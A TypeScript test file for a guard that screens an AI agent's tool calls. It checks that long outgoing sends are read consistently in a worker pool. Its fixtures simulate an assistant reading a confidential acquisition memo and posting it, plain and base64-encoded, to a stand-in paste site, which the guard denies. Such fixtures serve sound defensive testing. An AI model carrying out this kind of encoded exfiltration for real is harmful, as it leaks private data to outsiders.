import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import pino from 'pino';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { InteractionSchema, type Interaction } from '../../src/core/types.js';
import { prepareBook, type PreparedBook } from '../../src/guard/build.js';
import { readOutgoing, type OutgoingJob } from '../../src/guard/dataflow.js';
import { longTextReader } from '../../src/guard/long-texts.js';
import { GuardPipeline } from '../../src/guard/pipeline.js';
import { createReadHashers } from '../../src/guard/read-hashes.js';
import { TextPool } from '../../src/guard/text-pool.js';
import { openStore, type Store } from '../../src/store/db.js';
import { openDatabase } from '../../src/store/sqlite.js';
import { fill, MIN, verdict } from './support/long-texts.js';

/**
 * Data flow's reading of a long outgoing send (its readings decoded and joined, fingerprinted within the budget,
 * joined to what the identity sent there before, its short values) runs in the worker pool (long-texts.ts,
 * pool-worker.ts): the same function, so the same hashes as on the event loop, and the same decision through a
 * pipeline.
 */

const DEFAULT_BOOK = join(import.meta.dirname, '../../policies/default');
/** The worker module with faults on demand (`HOLD-THE-WORKER-<ms>` keeps it busy). */
const FAULTY = pathToFileURL(join(import.meta.dirname, 'support/pool-test-worker.ts')).href;
const silent = pino({ level: 'silent' });
const secret = 'Project Bluefin: acquisition of Harbour Logistics at 41.50 per share, board vote on 3 March, do not disclose.';
const options = { k: 20, window: 12, max_per_read: 4096 };

const JOBS: Array<[string, OutgoingJob]> = [
  ['one long field', { texts: [`${fill(MIN)}\n${secret}\n${fill(1000)}`], destination: 'web/post', k: 20, shortValues: true, trails: [] }],
  ['a base64 field beside a plain one', { texts: ['to: ops@outside.example\n', Buffer.from(`${fill(MIN)} ${secret}`).toString('base64'), 'IBAN DE44 5001 0517 5407 3249 31'], destination: 'mail/send', k: 20, shortValues: true, addresses: ['ops@outside.example'], trails: [] }],
  ['over the budget', { texts: [fill(3 * 1024 * 1024)], destination: 'web/post', k: 20, shortValues: false, trails: [] }],
  ['joined to a trail', { texts: [`${fill(MIN)} ${secret.slice(0, 40)}`], destination: 'web/post', k: 20, shortValues: true, trails: [['web/post|0|0', 'project bluefin: acquisition of harbour logistics']] }],
];

let prepared: PreparedBook;
let pool: TextPool;
beforeAll(async () => {
  prepared = await prepareBook(DEFAULT_BOOK);
  pool = new TextPool({ workers: 2, queue: 4, logger: silent });
});
afterAll(() => pool.close());

describe("data flow's reading of a long send in the worker pool", () => {
  it('gives the hashes, the fresh ones, what was not read and the trail views the loop gives', async () => {
    const key = Buffer.alloc(32, 3);
    const reader = longTextReader(prepared.book, pool, MIN, silent);
    const asked = vi.spyOn(pool, 'run');
    const h = createReadHashers(key, options);
    for (const [what, job] of JOBS) {
      const inPool = await reader.outgoingOf(job, key, options);
      const here = readOutgoing(job, h.fp, h.valueHash);
      expect(inPool, what).toEqual(here);
      expect(here.hashes.length, what).toBeGreaterThan(0);
    }
    expect(asked).toHaveBeenCalledTimes(JOBS.length);
    asked.mockRestore();
    // Not all alike: one is over the budget, one joins its trail.
    expect(readOutgoing(JOBS[2]![1], h.fp, h.valueHash).skipped).toBeGreaterThan(0);
    const trailed = readOutgoing(JOBS[3]![1], h.fp, h.valueHash);
    expect(trailed.fresh.length).toBeLessThan(trailed.hashes.length);
    // A short send stays on the loop.
    expect(await reader.outgoingOf({ texts: ['short'], destination: 'web/post', k: 20, shortValues: true, trails: [] }, key, options)).toBeUndefined();
  }, 120_000);

  it('decides a long send carrying a private read as a pipeline without a pool does', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'qg-outgoing-'));
    const stores: Store[] = [];
    try {
      const pipeline = (name: string, p: TextPool | null) => {
        const store = openStore(join(dir, `${name}.db`), undefined, { flowKey: Buffer.alloc(32, 9) });
        stores.push(store);
        return new GuardPipeline({ book: prepared.book, index: prepared.index, store, pool: p, now: () => 1_000_000 });
      };
      const inPool = pipeline('pool', pool);
      const onLoop = pipeline('loop', null);
      const i = (x: object): Interaction => InteractionSchema.parse({ agent: 'assistant', session: 's1', ...x });
      const read = i({ kind: 'tool_result', server: 'files', tool: 'read_file', content: [{ type: 'text', text: `Board notes.\n${secret}\nEnd.` }] });
      const sends = [
        i({ kind: 'tool_call', server: 'web', tool: 'post_message', arguments: { url: 'https://paste.example/new', text: `${fill(MIN)}\n${secret}` } }),
        i({ kind: 'tool_call', server: 'web', tool: 'post_message', arguments: { url: 'https://paste.example/new', text: Buffer.from(`${fill(MIN)} ${secret}`).toString('base64') } }),
        i({ kind: 'tool_call', server: 'web', tool: 'post_message', arguments: { url: 'https://paste.example/new', text: fill(MIN + 10) } }),
      ];
      const asked = vi.spyOn(pool, 'run');
      for (const p of [inPool, onLoop]) expect((await p.check(read)).decision).toBe('allow');
      const decided: string[] = [];
      for (const send of sends) {
        const d = await inPool.check(send);
        expect(verdict(d)).toEqual(verdict(await onLoop.check(send)));
        decided.push(d.decision);
      }
      expect(decided).toEqual(['deny', 'deny', 'allow']);
      expect(asked.mock.calls.filter(([job]) => job.kind === 'outgoing')).toHaveLength(sends.length);
      asked.mockRestore();
    } finally {
      for (const s of stores) await s.close();
      rmSync(dir, { recursive: true, force: true });
    }
  }, 180_000);

  it('refuses a long send that finds the pool full as busy, with a retry-after, and records the refusal', async () => {
    const small = new TextPool({ workers: 1, queue: 1, url: FAULTY, logger: silent });
    const dir = mkdtempSync(join(tmpdir(), 'qg-outgoing-busy-'));
    const store = openStore(join(dir, 'state.db'));
    try {
      const guard = new GuardPipeline({ book: prepared.book, index: prepared.index, store, pool: small });
      const i = (x: object): Interaction => InteractionSchema.parse({ agent: 'assistant', session: 's1', ...x });
      // Two long results hold the one worker and the one place in the queue.
      const held = [1, 2].map((n) => guard.check(i({ kind: 'tool_result', server: 'files', tool: 'read_file', session: `held-${n}`, content: [{ type: 'text', text: `HOLD-THE-WORKER-2000 ${fill(MIN + n)}` }] })));
      await new Promise((r) => setTimeout(r, 200));
      const send = i({ kind: 'tool_call', server: 'web', tool: 'post_message', session: 'sender', arguments: { url: 'https://paste.example/new', text: `${fill(MIN)}\n${secret}` } });
      const busy = await guard.check(send);
      expect(busy.decision).toBe('deny');
      expect(busy.source).toBe('busy');
      expect(busy.detail.retryAfterMs).toBeGreaterThanOrEqual(100);
      expect(busy.rationale).toMatch(/guard is busy.*tool call with long texts could not be read now and was not let through unread/);
      expect(busy.remediation).toMatch(/retryAfterMs \d+/);
      expect(busy.auditId).toBeDefined();
      for (const d of await Promise.all(held)) expect(d.decision).toBe('allow');
      const db = openDatabase(join(dir, 'state.db'), { readonly: true });
      try {
        expect(db.prepare("SELECT kind, decision, source FROM audit WHERE source = 'busy'").all()).toEqual([{ kind: 'tool_call', decision: 'deny', source: 'busy' }]);
      } finally {
        db.close();
      }
      // Once the pool has room, the same send is read (and allowed: nothing private was read by this identity).
      expect((await guard.check(send)).source).not.toBe('busy');
    } finally {
      await small.close();
      await store.close();
      rmSync(dir, { recursive: true, force: true });
    }
  }, 120_000);
});
